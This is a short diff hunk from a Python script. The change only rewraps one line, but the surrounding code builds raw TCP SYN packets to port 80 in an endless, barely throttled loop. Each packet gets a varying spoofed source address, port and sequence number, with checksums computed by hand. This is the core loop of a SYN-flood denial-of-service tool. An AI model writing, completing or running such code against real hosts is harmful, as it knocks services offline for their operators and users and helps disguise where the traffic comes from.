@@ -25,7 +25,8 @@ for number in itertools.count():
     if number % 20 == 0:
         time.sleep(0.001)
     source = first[:-2] + struct.pack("!H", number * 40503 & 0xffff)
-    tcp = bytearray(struct.pack("!HHIIBBHHH", 1024 + number % 60000, 80, number & 0xffffffff, 0, 0x50, 2, 1024, 0, 0))
+    tcp = bytearray(struct.pack("!HHIIBBHHH", 1024 + number % 60000, 80, number & 0xffffffff, 0, 0x50, 2,
+                                1024, 0, 0))
     words = source + target + struct.pack("!HH", 6, len(tcp)) + tcp
     total = sum(struct.unpack("!%dH" % (len(words) // 2), words))
     while total >> 16:
